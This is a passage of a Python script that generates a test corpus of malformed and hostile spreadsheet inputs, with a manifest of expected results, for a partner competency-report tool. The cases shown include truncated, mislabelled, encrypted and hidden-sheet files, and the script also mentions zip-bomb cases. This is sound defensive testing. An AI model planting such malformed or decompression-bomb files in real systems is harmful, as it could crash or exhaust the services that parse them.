#!/usr/bin/env python3
"""Build the hostile-input corpus for competency-report.

Writes every case into tests/corpus/files/ and rewrites tests/corpus/manifest.toml
from the same definitions, so the files and the expectations can never drift apart.

    python3 -m pip install -r tests/corpus/requirements.txt
    python3 tests/corpus/make_corpus.py            # build all cases
    python3 tests/corpus/make_corpus.py zip_bomb   # build only cases whose name contains "zip_bomb"

Deterministic: zip entries carry a fixed timestamp, the encryption's random bytes are
seeded, so a re-run gives byte-identical files (given the same zlib and package versions).
Memory stays small: the bombs are deflated from a generator, chunk by chunk.

Most .xlsx files are written by hand (XML strings put into a zip) to get exact control over
shared strings, dimension tags, the 1904 flag, sheet state, merged cells and cached formula
values. Column layout of every customers sheet unless a case says otherwise:
    A Partner ID | B Partner Name | C Customer ID | D Customer Name | E Workload |
    F Active Users | G SKU Type | H Association
and of every transcripts sheet:
    A Partner ID | B Person ID | C Person Name | D Credential | E Date Passed
"""

from __future__ import annotations

import datetime as dt
import hashlib
import io
import os
import struct
import sys
import zipfile
import zlib
from dataclasses import dataclass, field
from typing import Any, Iterable, Iterator
from xml.sax.saxutils import escape

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "files")
MANIFEST = os.path.join(HERE, "manifest.toml")

ZIP_TIME = (2017, 9, 15, 12, 0, 0)  # fixed timestamp for every zip entry

MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"

CUST_HEADERS = ["Partner ID", "Partner Name", "Customer ID", "Customer Name",
                "Workload", "Active Users", "SKU Type", "Association"]
TRANS_HEADERS = ["Partner ID", "Person ID", "Person Name", "Credential", "Date Passed"]

EX346 = "Exam 70-346: Managing Office 365 Identities and Requirements"
EX347 = "Exam 70-347: Enabling Office 365 Services"
MCSA = "MCSA: Office 365"
EX533 = "Exam 70-533: Implementing Microsoft Azure Infrastructure Solutions"

EXCEL_EPOCH = dt.date(1899, 12, 30)   # 1900 date system (serial 61 onwards)
EXCEL_EPOCH_1904 = dt.date(1904, 1, 1)


def serial(d: dt.date, date1904: bool = False) -> int:
    return (d - (EXCEL_EPOCH_1904 if date1904 else EXCEL_EPOCH)).days


def guid(n: int) -> str:
    """A tenant-id-looking customer id, deterministic."""
    h = hashlib.sha1(str(n).encode()).hexdigest()
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-8{h[17:20]}-{h[20:32]}"


# --------------------------------------------------------------------------- cell values

@dataclass(frozen=True)
class Date:
    """A date cell: serial number with a date number format (style 1, numFmtId 14)."""
    serial: int
    style: int = 1


@dataclass(frozen=True)
class Num:
    """A number with an explicit style index (0 = General)."""
    value: float | int
    style: int = 0


@dataclass(frozen=True)
class Inline:
    """An inline string (t="inlineStr")."""
    text: str


@dataclass(frozen=True)
class Formula:
    """A formula with an optional cached value. kind: n (number), str, e (error), b."""
    formula: str
    cached: Any = None
    kind: str = "n"


@dataclass(frozen=True)
class Bool:
    value: bool


@dataclass(frozen=True)
class Err:
    code: str  # e.g. "#N/A"


# --------------------------------------------------------------------------- xlsx writer

def col_letter(c: int) -> str:
    s = ""
    while c:
        c, rem = divmod(c - 1, 26)
        s = chr(65 + rem) + s
    return s


def ref(row: int, col: int) -> str:
    return f"{col_letter(col)}{row}"


def xml_text(s: str) -> str:
    return escape(s)


def t_elem(s: str) -> str:
    if s != s.strip() or "\n" in s or "\t" in s:
        return f'<t xml:space="preserve">{xml_text(s)}</t>'
    return f"<t>{xml_text(s)}</t>"


def fmt_num(v: float | int) -> str:
    if isinstance(v, bool):
        raise TypeError
    if isinstance(v, int):
        return str(v)
    if v == int(v) and abs(v) < 1e15:
        return str(int(v))
    return repr(v)


@dataclass
class Sheet:
    name: str
    state: str = "visible"           # visible | hidden | veryHidden
    cells: dict = field(default_factory=dict)   # (row, col) -> value
    merges: list = field(default_factory=list)
    dimension: str | None = None     # None: computed from the cells; "" : no dimension tag
    omit_refs: bool = False          # write <row>/<c> without r attributes

    def row(self, r: int, values: Iterable[Any], c0: int = 1) -> None:
        for i, v in enumerate(values):
            if v is not None:
                self.cells[(r, c0 + i)] = v

    def computed_dimension(self) -> str:
        if not self.cells:
            return "A1"
        rows = [r for r, _ in self.cells]
        cols = [c for _, c in self.cells]
        a, b = ref(min(rows), min(cols)), ref(max(rows), max(cols))
        return a if a == b else f"{a}:{b}"


class SharedStrings:
    def __init__(self) -> None:
        self.index: dict[str, int] = {}
        self.items: list[str] = []
        self.count = 0

    def get(self, s: str) -> int:
        self.count += 1
        if s not in self.index:
            self.index[s] = len(self.items)
            self.items.append(s)
        return self.index[s]

    def xml(self) -> str:
        body = "".join(f"<si>{t_elem(s)}</si>" for s in self.items)
        return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                f'<sst xmlns="{MAIN_NS}" count="{self.count}" uniqueCount="{len(self.items)}">{body}</sst>')


def cell_xml(r: int, c: int, v: Any, sst: SharedStrings, omit_ref: bool) -> str:
    a = "" if omit_ref else f' r="{ref(r, c)}"'
    if isinstance(v, str):
        return f'<c{a} t="s"><v>{sst.get(v)}</v></c>'
    if isinstance(v, bool):
        return f'<c{a} t="b"><v>{int(v)}</v></c>'
    if isinstance(v, Bool):
        return f'<c{a} t="b"><v>{int(v.value)}</v></c>'
    if isinstance(v, (int, float)):
        return f"<c{a}><v>{fmt_num(v)}</v></c>"
    if isinstance(v, Num):
        s = f' s="{v.style}"' if v.style else ""
        return f"<c{a}{s}><v>{fmt_num(v.value)}</v></c>"
    if isinstance(v, Date):
        return f'<c{a} s="{v.style}"><v>{v.serial}</v></c>'
    if isinstance(v, Inline):
        return f'<c{a} t="inlineStr"><is>{t_elem(v.text)}</is></c>'
    if isinstance(v, Err):
        return f'<c{a} t="e"><v>{xml_text(v.code)}</v></c>'
    if isinstance(v, Formula):
        f = f"<f>{xml_text(v.formula)}</f>"
        if v.cached is None:
            return f"<c{a}>{f}</c>"
        if v.kind == "n":
            return f"<c{a}>{f}<v>{fmt_num(v.cached)}</v></c>"
        if v.kind == "str":
            return f'<c{a} t="str">{f}<v>{xml_text(v.cached)}</v></c>'
        if v.kind == "e":
            return f'<c{a} t="e">{f}<v>{xml_text(v.cached)}</v></c>'
        if v.kind == "b":
            return f'<c{a} t="b">{f}<v>{int(v.cached)}</v></c>'
    raise TypeError(f"unsupported cell value {v!r}")


def sheet_xml(sh: Sheet, sst: SharedStrings) -> str:
    rows: dict[int, list] = {}
    for (r, c), v in sh.cells.items():
        rows.setdefault(r, []).append((c, v))
    parts = []
    for r in sorted(rows):
        cs = "".join(cell_xml(r, c, v, sst, sh.omit_refs) for c, v in sorted(rows[r], key=lambda x: x[0]))
        parts.append(f"<row>{cs}</row>" if sh.omit_refs else f'<row r="{r}">{cs}</row>')
    dim = sh.computed_dimension() if sh.dimension is None else sh.dimension
    dim_xml = f'<dimension ref="{dim}"/>' if dim else ""
    merges = ""
    if sh.merges:
        merges = f'<mergeCells count="{len(sh.merges)}">' + "".join(
            f'<mergeCell ref="{m}"/>' for m in sh.merges) + "</mergeCells>"
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            f'<worksheet xmlns="{MAIN_NS}" xmlns:r="{REL_NS}">{dim_xml}'
            f'<sheetData>{"".join(parts)}</sheetData>{merges}</worksheet>')


STYLES_XML = f"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<styleSheet xmlns="{MAIN_NS}"><numFmts count="1"><numFmt numFmtId="164" formatCode="dd\\.mm\\.yyyy"/></numFmts><fonts count="1"><font><sz val="11"/><name val="Calibri"/><family val="2"/></font></fonts><fills count="2"><fill><patternFill patternType="none"/></fill><fill><patternFill patternType="gray125"/></fill></fills><borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders><cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs><cellXfs count="5"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/><xf numFmtId="14" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/><xf numFmtId="49" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/><xf numFmtId="164" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/><xf numFmtId="3" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/></cellXfs><cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles></styleSheet>"""
STYLE_DATE, STYLE_TEXT, STYLE_DATE_DE, STYLE_THOUSANDS = 1, 2, 3, 4


def content_types(n_sheets: int, sst: bool, extra: str = "") -> str:
    sheets = "".join(
        f'<Override PartName="/xl/worksheets/sheet{i}.xml" '
        f'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        for i in range(1, n_sheets + 1))
    sst_x = ('<Override PartName="/xl/sharedStrings.xml" '
             'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
             if sst else "")
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/styles.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>'
            f'{sheets}{sst_x}{extra}</Types>')


ROOT_RELS = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
             f'<Relationships xmlns="{PKG_REL_NS}"><Relationship Id="rId1" '
             f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
             f'Target="xl/workbook.xml"/></Relationships>')


def workbook_parts(sheets: list[Sheet], date1904: bool, sst: bool) -> list[tuple[str, str]]:
    pr = '<workbookPr date1904="1"/>' if date1904 else "<workbookPr/>"
    sheet_tags = "".join(
        f'<sheet name="{escape(s.name, {chr(34): "&quot;"})}" sheetId="{i}"'
        + (f' state="{s.state}"' if s.state != "visible" else "")
        + f' r:id="rId{i}"/>'
        for i, s in enumerate(sheets, 1))
    wb = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
          f'<workbook xmlns="{MAIN_NS}" xmlns:r="{REL_NS}">{pr}'
          f'<bookViews><workbookView activeTab="0"/></bookViews>'
          f'<sheets>{sheet_tags}</sheets></workbook>')
    n = len(sheets)
    rels = "".join(
        f'<Relationship Id="rId{i}" Type="{REL_NS}/worksheet" Target="worksheets/sheet{i}.xml"/>'
        for i in range(1, n + 1))
    rels += f'<Relationship Id="rId{n + 1}" Type="{REL_NS}/styles" Target="styles.xml"/>'
    if sst:
        rels += f'<Relationship Id="rId{n + 2}" Type="{REL_NS}/sharedStrings" Target="sharedStrings.xml"/>'
    wb_rels = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
               f'<Relationships xmlns="{PKG_REL_NS}">{rels}</Relationships>')
    return [("xl/workbook.xml", wb), ("xl/_rels/workbook.xml.rels", wb_rels)]


def xlsx_bytes(sheets: list[Sheet], date1904: bool = False) -> bytes:
    sst = SharedStrings()
    sheet_parts = [(f"xl/worksheets/sheet{i}.xml", sheet_xml(s, sst)) for i, s in enumerate(sheets, 1)]
    has_sst = bool(sst.items)
    entries = [("[Content_Types].xml", content_types(len(sheets), has_sst)),
               ("_rels/.rels", ROOT_RELS)]
    entries += workbook_parts(sheets, date1904, has_sst)
    entries += [("xl/styles.xml", STYLES_XML)]
    entries += sheet_parts
    if has_sst:
        entries.append(("xl/sharedStrings.xml", sst.xml()))
    return zip_bytes(entries)


def zinfo(name: str) -> zipfile.ZipInfo:
    zi = zipfile.ZipInfo(name, ZIP_TIME)
    zi.compress_type = zipfile.ZIP_DEFLATED
    zi.external_attr = 0o644 << 16
    zi.create_system = 0
    return zi


def zip_bytes(entries: list[tuple[str, str | bytes]], stored: Iterable[str] = ()) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        for name, data in entries:
            zi = zinfo(name)
            if name in stored:
                zi.compress_type = zipfile.ZIP_STORED
            zf.writestr(zi, data.encode("utf-8") if isinstance(data, str) else data)
    return buf.getvalue()


def write(name: str, data: bytes) -> str:
    path = os.path.join(OUT, name)
    with open(path, "wb") as f:
        f.write(data)
    return path


# --------------------------------------------------------------------------- data helpers

def customers_sheet(name: str, rows: list[tuple], header_row: int = 1,
                    headers: list[str] = CUST_HEADERS, **kw) -> Sheet:
    sh = Sheet(name, **kw)
    sh.row(header_row, headers)
    for i, r in enumerate(rows):
        sh.row(header_row + 1 + i, r)
    return sh


def transcripts_sheet(name: str, rows: list[tuple], header_row: int = 1,
                      headers: list[str] = TRANS_HEADERS, **kw) -> Sheet:
    sh = Sheet(name, **kw)
    sh.row(header_row, headers)
    for i, r in enumerate(rows):
        sh.row(header_row + 1 + i, r)
    return sh


def D(y: int, m: int, d: int, date1904: bool = False) -> Date:
    return Date(serial(dt.date(y, m, d), date1904))


# The baseline data set, reused by several cases (xls, ods, 1904, hidden file, ...).
# Best-workload rule: per partner, active users are summed per counted workload over the
# partner's eligible rows (Paid, associated, counted workload) and the best workload counts.
# Every data set here is built so that "sum per workload, take the best" and "per customer the
# best workload, summed" give the same number, while "sum of all workloads" does not.
BASE_CUSTOMERS = [
    # pid, partner name, customer id, customer name, workload, active users, sku, association
    (1000001, "Contoso Ltd", guid(1), "Adatum Corporation", "Exchange Online", 1500, "Paid", "DAP"),
    (1000001, "Contoso Ltd", guid(1), "Adatum Corporation", "SharePoint Online", 600, "Paid", "DAP"),
    (1000001, "Contoso Ltd", guid(2), "Blue Yonder Airlines", "Exchange Online", 1000, "Paid", "Transacting Partner"),
    (1000001, "Contoso Ltd", guid(2), "Blue Yonder Airlines", "SharePoint Online", 400, "Paid", "Transacting Partner"),
    (1000001, "Contoso Ltd", guid(3), "Coho Winery", "Exchange Online", 5000, "Trial", "DAP"),         # trial: not counted
    (1000001, "Contoso Ltd", guid(4), "Datum Fabrics", "Exchange Online", 3000, "Paid", "None"),        # no association
    (1000001, "Contoso Ltd", guid(5), "Woodgrove Bank", "Dynamics CRM Online", 9000, "Paid", "DAP"),    # not a counted workload
    (1000002, "Fabrikam Inc", guid(101), "Fourth Coffee", "Exchange Online", 2500, "Paid", "DPOR"),
    (1000002, "Fabrikam Inc", guid(102), "Graphic Design Institute", "Exchange Online", 1700, "Paid", "Fast Track Partner"),
    (1000002, "Fabrikam Inc", guid(102), "Graphic Design Institute", "Yammer", 300, "Paid", "Fast Track Partner"),
    (1000003, "Northwind Traders", guid(201), "Humongous Insurance", "Office 365 ProPlus", 1200, "Paid", "DAP"),
]
BASE_TRANSCRIPTS = [
    # pid, person id, person name, credential, date passed
    (1000001, "alice@contoso.com", "Alice Archer", EX346, dt.date(2017, 3, 1)),
    (1000001, "alice@contoso.com", "Alice Archer", EX347, dt.date(2017, 4, 12)),
    (1000001, "aaron@contoso.com", "Aaron Adams", EX346, dt.date(2017, 5, 3)),        # one exam only
    (1000002, "bob@fabrikam.com", "Bob Brown", MCSA, dt.date(2016, 11, 30)),
    (1000002, "carol@fabrikam.com", "Carol Chen", EX346, dt.date(2017, 1, 17)),
    (1000002, "carol@fabrikam.com", "Carol Chen", EX347, dt.date(2017, 2, 28)),
    (1000002, "dave@fabrikam.com", "Dave Diaz", EX347, dt.date(2017, 6, 6)),          # one exam only
    (1000003, "erin@northwind.com", "Erin Evans", MCSA, dt.date(2017, 7, 7)),
    (1000003, "frank@northwind.com", "Frank Fox", EX533, dt.date(2017, 8, 8)),         # other competency
]
BASE_EXPECT = [
    {"id": "1000001", "active_entitlements": 2500, "qualified_people": 1, "level": "silver"},
    {"id": "1000002", "active_entitlements": 4200, "qualified_people": 2, "level": "gold"},
    {"id": "1000003", "active_entitlements": 1200, "qualified_people": 1, "level": "none"},
]


def base_transcript_rows(date1904: bool = False) -> list[tuple]:
    return [(p, e, n, c, Date(serial(d, date1904))) for p, e, n, c, d in BASE_TRANSCRIPTS]


def base_sheets(date1904: bool = False) -> list[Sheet]:
    return [customers_sheet("Customers", BASE_CUSTOMERS),
            transcripts_sheet("Transcripts", base_transcript_rows(date1904))]


def P(pid: str, ent: int, q: int, level: str, **extra) -> dict:
    d = {"id": pid, "active_entitlements": ent, "qualified_people": q, "level": level}
    d.update(extra)
    return d


def prob(sheet: str, cell: str | None = None, contains: str | None = None) -> dict:
    d: dict = {"sheet": sheet}
    if cell:
        d["cell"] = cell
    if contains:
        d["message_contains"] = contains
    return d


# --------------------------------------------------------------------------- cases

CASES: list[dict] = []
BUILDERS: list[tuple[str, Any]] = []


ONLY: list[str] = []   # names given on the command line: only those (heavy) cases are rebuilt


def wanted(name: str) -> bool:
    return not ONLY or any(o in name for o in ONLY)


def case(name: str, heavy: bool = False):
    """Register a case. Cheap cases are always rebuilt; heavy ones (the bombs) only when wanted,
    though their manifest entries are always produced."""
    def deco(fn):
        def run():
            global WRITE_ENABLED
            WRITE_ENABLED = wanted(name) or not heavy
            try:
                return fn()
            finally:
                WRITE_ENABLED = True
        BUILDERS.append((name, run))
        return fn
    return deco


WRITE_ENABLED = True


@case("valid_baseline")
def _():
    write("valid_baseline.xlsx", xlsx_bytes(base_sheets()))
    return [dict(file="valid_baseline.xlsx",
                 what="Control: a clean workbook (Customers + Transcripts) with trial, unassociated and non-counted-workload rows that must be left out",
                 expect="read", partners=BASE_EXPECT)]


@case("truncated_zip")
def _():
    full = xlsx_bytes(base_sheets())
    write("truncated_zip.xlsx", full[: len(full) // 2])
    return [dict(file="truncated_zip.xlsx",
                 what="valid_baseline.xlsx cut in half: the zip central directory is missing",
                 expect="refused", message_contains="not a valid")]


@case("zero_bytes")
def _():
    write("zero_bytes.xlsx", b"")
    return [dict(file="zero_bytes.xlsx", what="An empty (0-byte) file named .xlsx",
                 expect="refused", message_contains="empty")]


@case("text_named_xlsx")
def _():
    text = ("Partner ID;Partner Name;Customer ID;Customer Name;Workload;Active Users;SKU Type;Association\r\n"
            "1000001;Contoso Ltd;c-1;Adatum;Exchange Online;2500;Paid;DAP\r\n")
    write("text_named_xlsx.xlsx", text.encode("utf-8"))
    return [dict(file="text_named_xlsx.xlsx",
                 what="A CSV text file (customers data, semicolons) saved with an .xlsx name",
                 expect="refused", message_contains="not a spreadsheet")]


@case("pdf_named_xlsx")
def _():
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, o in enumerate(objs, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + o + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    write("pdf_named_xlsx.xlsx", bytes(out))
    return [dict(file="pdf_named_xlsx.xlsx", what="A one-page PDF saved with an .xlsx name",
                 expect="refused", message_contains="it is a PDF document")]


@case("docx_named_xlsx")
def _():
    doc = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
           '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
           '<w:body><w:p><w:r><w:t>Partner ID 1000001, 2500 active users</w:t></w:r></w:p></w:body></w:document>')
    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Default Extension="xml" ContentType="application/xml"/>'
          '<Override PartName="/word/document.xml" '
          'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
    rels = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            f'<Relationships xmlns="{PKG_REL_NS}"><Relationship Id="rId1" '
            f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
            f'Target="word/document.xml"/></Relationships>')
    write("docx_named_xlsx.xlsx", zip_bytes([("[Content_Types].xml", ct), ("_rels/.rels", rels),
                                             ("word/document.xml", doc)]))
    return [dict(file="docx_named_xlsx.xlsx",
                 what="A valid zip (a minimal Word .docx) with an .xlsx name: no xl/workbook.xml",
                 expect="refused", message_contains="Word document")]


@case("encrypted_password")
def _():
    import msoffcrypto.method.container.ecma376_encrypted as container
    import msoffcrypto.method.ecma376_agile as agile
    from msoffcrypto.format.ooxml import OOXMLFile

    class FixedDatetime(dt.datetime):  # the OLE directory stamps datetime.now()
        @classmethod
        def now(cls, tz=None):
            return cls(*ZIP_TIME)

    state = {"n": 0}

    def det_random(sz: int) -> bytes:  # deterministic "random" bytes: byte-identical re-runs
        out = b""
        while len(out) < sz:
            state["n"] += 1
            out += hashlib.sha256(b"competency-report corpus %d" % state["n"]).digest()
        return out[:sz]

    orig = agile._random_buffer, container.datetime
    agile._random_buffer, container.datetime = det_random, FixedDatetime
    try:
        plain = io.BytesIO(xlsx_bytes(base_sheets()))
        enc = io.BytesIO()
        OOXMLFile(plain).encrypt("Passw0rd!", enc)
    finally:
        agile._random_buffer, container.datetime = orig
    write("encrypted_password.xlsx", enc.getvalue())
    return [dict(file="encrypted_password.xlsx",
                 what="valid_baseline.xlsx encrypted with a password (Passw0rd!) by msoffcrypto-tool: an OLE/CFB EncryptedPackage",
                 expect="refused", message_contains="password")]


@case("empty_workbook")
def _():
    write("empty_workbook.xlsx", xlsx_bytes([Sheet("Sheet1")]))
    return [dict(file="empty_workbook.xlsx",
                 what="A workbook with one sheet and no cells at all",
                 expect="read", partners=[], problems=[prob("", contains="the workbook is empty")],
                 note="Its sheet is listed as empty on Run info, and the file is one problem: nothing to read is worth saying, as for an empty .csv.")]


@case("header_only_customers")
def _():
    write("header_only_customers.xlsx",
          xlsx_bytes([customers_sheet("Customers", []), transcripts_sheet("Transcripts", [])]))
    return [dict(file="header_only_customers.xlsx",
                 what="Customers and Transcripts sheets with their header rows and no data rows",
                 expect="read", partners=[])]


@case("hidden_sheets")
def _():
    visible_c = customers_sheet("Customers", [
        (1000001, "Contoso Ltd", guid(1), "Adatum Corporation", "Exchange Online", 2500, "Paid", "DAP")])
    visible_t = transcripts_sheet("Transcripts", [
        (1000001, "alice@contoso.com", "Alice Archer", EX346, D(2017, 3, 1)),
        (1000001, "alice@contoso.com", "Alice Archer", EX347, D(2017, 4, 12))])
    hidden_c = customers_sheet("Customers 2016", [
        (1000001, "Contoso Ltd", guid(7), "Old Customer", "Exchange Online", 9000, "Paid", "DAP"),
        (1000077, "Hidden Partner", guid(8), "Ghost Customer", "Exchange Online", 5000, "Paid", "DAP")],
        state="hidden")
    very_hidden_t = transcripts_sheet("Transcripts (HR)", [
        (1000001, "gina@contoso.com", "Gina Green", MCSA, D(2017, 2, 2)),
        (1000001, "hank@contoso.com", "Hank Hill", MCSA, D(2017, 2, 3)),
        (1000077, "ivan@hidden.example", "Ivan Ice", MCSA, D(2017, 2, 4))],
        state="veryHidden")
    write("hidden_sheets.xlsx", xlsx_bytes([visible_c, hidden_c, visible_t, very_hidden_t]))
    return [dict(file="hidden_sheets.xlsx",
                 what="Visible Customers/Transcripts plus a hidden customers sheet and a veryHidden transcripts sheet full of data that must not count",
                 expect="read",
                 skipped_sheets=["Customers 2016", "Transcripts (HR)"],
                 partners=[P("1000001", 2500, 1, "silver")],
                 note="Design choice: hidden and veryHidden sheets are skipped and listed as skipped. Read by mistake, 1000001 would be gold (11500 users, 3 people) and partner 1000077 would appear.")]


@case("merged_header_cells")
def _():
    sh = Sheet("Customers")
    sh.row(1, ["Active users by customer - Contoso Ltd"])
    sh.merges.append("A1:I1")
    # header row 2: "Customer Name" is merged over D2:E2, so data columns shift by one after D
    sh.row(2, ["Partner ID", "Partner Name", "Customer ID", "Customer Name", None,
               "Workload", "Active Users", "SKU Type", "Association"])
    sh.merges.append("D2:E2")
    data = [(1000001, "Contoso Ltd", guid(1), "Adatum Corporation", None, "Exchange Online", 1500, "Paid", "DAP"),
            (1000001, "Contoso Ltd", guid(2), "Blue Yonder Airlines", None, "Exchange Online", 1000, "Paid", "DAP")]
    for i, r in enumerate(data):
        sh.row(3 + i, r)
        sh.merges.append(f"D{3 + i}:E{3 + i}")
    t = transcripts_sheet("Transcripts", [
        (1000001, "alice@contoso.com", "Alice Archer", MCSA, D(2017, 3, 1))], header_row=2)
    t.row(1, ["Certified staff"])
    t.merges.append("A1:E1")
    write("merged_header_cells.xlsx", xlsx_bytes([sh, t]))
    return [dict(file="merged_header_cells.xlsx",
                 what="Merged title row above the header; the 'Customer Name' header and its data cells are merged over two columns (D:E), so later columns sit one to the right",
                 expect="read", partners=[P("1000001", 2500, 1, "silver")])]


@case("merged_two_row_header")
def _():
    sh = Sheet("Customers")
    # row 1: group headings (merged horizontally) and single headings merged vertically over rows 1-2
    sh.row(1, ["Partner", None, "Customer", None, "Workload", "Active Users", "SKU Type", "Association"])
    sh.row(2, ["Partner ID", "Partner Name", "Customer ID", "Customer Name"])
    sh.merges += ["A1:B1", "C1:D1", "E1:E2", "F1:F2", "G1:G2", "H1:H2"]
    data = [(1000001, "Contoso Ltd", guid(1), "Adatum Corporation", "Exchange Online", 1500, "Paid", "DAP"),
            (1000001, "Contoso Ltd", guid(2), "Blue Yonder Airlines", "Exchange Online", 1000, "Paid", "DAP")]
    for i, r in enumerate(data):
        sh.row(3 + i, r)
    write("merged_two_row_header.xlsx", xlsx_bytes([sh]))
    return [dict(file="merged_two_row_header.xlsx",
                 what="Two-level header: group headings merged across columns in row 1, while Workload/Active Users/SKU Type/Association are merged vertically over rows 1-2 (their names sit only in row 1)",
                 expect="read", partners=[P("1000001", 2500, 0, "none")],
                 note="Hard case: the header names are spread over two rows and only merges tie them together. If the tool chooses not to support this, change expect to read with a 'no header' problem and partners = [].")]


@case("title_rows_and_total_row")
def _():
    sh = Sheet("Customers")
    sh.row(1, ["Partner Center - Active users export"])
    sh.row(2, [Inline("Generated 15.09.2017 08:00 UTC")])
    sh.row(3, ["Filter: all workloads"])
    sh.row(5, CUST_HEADERS)
    data = [(1000001, "Contoso Ltd", guid(1), "Adatum Corporation", "Exchange Online", 1000, "Paid", "DAP"),
            (1000001, "Contoso Ltd", guid(2), "Blue Yonder Airlines", "Exchange Online", 800, "Paid", "DAP"),
            (1000001, "Contoso Ltd", guid(3), "Coho Winery", "Exchange Online", 700, "Paid", "DPOR")]
    for i, r in enumerate(data):
        sh.row(6 + i, r)
    sh.row(10, ["Total", None, None, None, None, Formula("SUM(F6:F8)", 2500)])
    t = Sheet("Transcripts")
    t.row(1, ["Transcript export"])
    t.row(3, TRANS_HEADERS)
    t.row(4, (1000001, "alice@contoso.com", "Alice Archer", EX346, D(2017, 3, 1)))
    t.row(5, (1000001, "alice@contoso.com", "Alice Archer", EX347, D(2017, 4, 12)))
    t.row(7, ["Total", None, None, Formula('COUNTA(D4:D5)&" exams"', "2 exams", "str")])
    write("title_rows_and_total_row.xlsx", xlsx_bytes([sh, t]))
    return [dict(file="title_rows_and_total_row.xlsx",
                 what="Three title rows and a blank row above the header (row 5); a blank row then a 'Total' row with =SUM(F6:F8) (cached 2500) under the data; same shape on Transcripts",
                 expect="read", partners=[P("1000001", 2500, 1, "silver")], extra_problems_ok=True,
                 note="The Total rows must not count (counted, 1000001 would show 5000). Whether the tool reports them as problems is its choice.")]


@case("formulas_cached_values")
def _():
    sh = customers_sheet("Customers", [
        (Formula("1000000+1", 1000001), "Contoso Ltd", guid(1),
         Formula('"Adatum"&" Corporation"', "Adatum Corporation", "str"),
         Formula('TRIM("  Exchange Online ")', "Exchange Online", "str"),
         Formula("1000+500", 1500), "Paid", "DAP"),
        (1000001, "Contoso Ltd", guid(2), "Blue Yonder Airlines", "Exchange Online",
         Formula("F2-500", 1000), "Paid", "DAP"),
        (1000001, "Contoso Ltd", guid(3), "Coho Winery", "Exchange Online",
         Formula("1/0", "#DIV/0!", "e"), "Paid", "DAP"),
    ])
    t = transcripts_sheet("Transcripts", [
        (1000001, "alice@contoso.com", Formula('PROPER("alice archer")', "Alice Archer", "str"), EX346,
         Formula("DATE(2017,3,1)", serial(dt.date(2017, 3, 1)))),
        (1000001, "alice@contoso.com", "Alice Archer", Formula('"Exam 70-347: Enabling Office 365 Services"', EX347, "str"),
         D(2017, 4, 12)),
    ])
    write("formulas_cached_values.xlsx", xlsx_bytes([sh, t]))
    return [dict(file="formulas_cached_values.xlsx",
                 what="Formulas whose cached values are the data: Partner ID =1000000+1, Active Users =1000+500 and =F2-500, names and workload as string formulas; one Active Users formula caches #DIV/0!",
                 expect="read", partners=[P("1000001", 2500, 1, "silver")],
                 problems=[prob("Customers", "F4", "DIV/0")],
                 note="The cached value is what counts; formulas are never evaluated. The Date Passed in E2 is =DATE(2017,3,1) cached as the bare serial 42795 (no date style).")]


@case("formulas_without_cached_values")
def _():
    import openpyxl
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Customers"
    ws.append(CUST_HEADERS)
    ws.append([1000001, "Contoso Ltd", guid(1), "Adatum Corporation", "Exchange Online", 1500, "Paid", "DAP"])
